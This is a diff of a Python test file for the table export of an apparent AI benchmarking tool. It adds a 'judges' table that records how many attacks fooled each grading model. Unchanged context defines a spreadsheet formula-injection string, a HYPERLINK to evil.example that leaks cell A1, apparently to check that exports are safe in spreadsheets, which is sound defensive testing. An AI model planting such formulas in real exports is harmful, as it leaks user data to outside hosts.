@@ -1,6 +1,7 @@
 """The exported tables: the ledger's values, typed, in a fixed order, and harmless in a spreadsheet."""
 
 import csv
+import json
 from collections.abc import Callable
 from decimal import Decimal
 from pathlib import Path
@@ -15,7 +16,7 @@ from local_bench.runs.rundir import RunDir
 from local_bench.runs.settlement import books
 
 MakeRun = Callable[..., Path]
-NAMES = ("candidates", "verdicts", "scores", "settlement", "costs", "making", "cuts")
+NAMES = ("candidates", "verdicts", "scores", "settlement", "costs", "making", "judges", "cuts")
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
@@ -42,9 +43,13 @@ def test_every_table_is_written_twice(make_run: MakeRun) -> None:
 
 
 def test_the_ledgers_rows_come_back(make_run: MakeRun) -> None:
-    path = make_run(no_source=True)
+    path = make_run(no_source=True, panel=True)
     export(path)
-    keys = {"candidates": "work_id", "verdicts": "work_id, rubric, point", "scores": "work_id, name"}
+    keys = {
+        "candidates": "work_id",
+        "verdicts": "work_id, judge, rubric, point, repeat",
+        "scores": "work_id, name",
+    }
     with RunDir.open(path) as run:
         for name, key in keys.items():
             kept = [dict(row) for row in run.ledger.rows(f"SELECT * FROM {name} ORDER BY {key}")]
@@ -174,6 +179,19 @@ def test_absent_counters_and_prices_are_null_and_never_nothing(make_run: MakeRun
     rows = {r["model"]: r for r in parquet(path, "settlement") if r["scope"] == "run"}
     assert rows["some-api"]["cost_unscored"] == "nobody says what its pictures cost"
     assert rows["alpha"]["cost_unscored"] == "the price table has no row for the device"
+
+
+def test_judges_are_told_with_what_was_tried_and_nulls_for_what_was_not(make_run: MakeRun) -> None:
+    path = make_run(panel=True)
+    export(path)
+    gamma, delta = parquet(path, "judges")
+    assert (gamma["name"], gamma["card"], gamma["protocol"]) == ("gamma", "gamma", "json-2")
+    tried = ("reproducible", "n_attacks", "n_fooled", "n_attacks_unscored", "fooled_by")
+    assert [gamma[name] for name in tried] == [None] * 5
+    assert [delta[name] for name in tried[:4]] == [False, 15, 2, 1]
+    assert json.loads(delta["fooled_by"])[0] == "painted-json"
+    verdicts = {r["judge"] for r in parquet(path, "verdicts")}
+    assert verdicts == {gamma["judge_id"], delta["judge_id"]}
 
 
 def test_an_impossible_timing_exports_nothing(make_run: MakeRun) -> None:
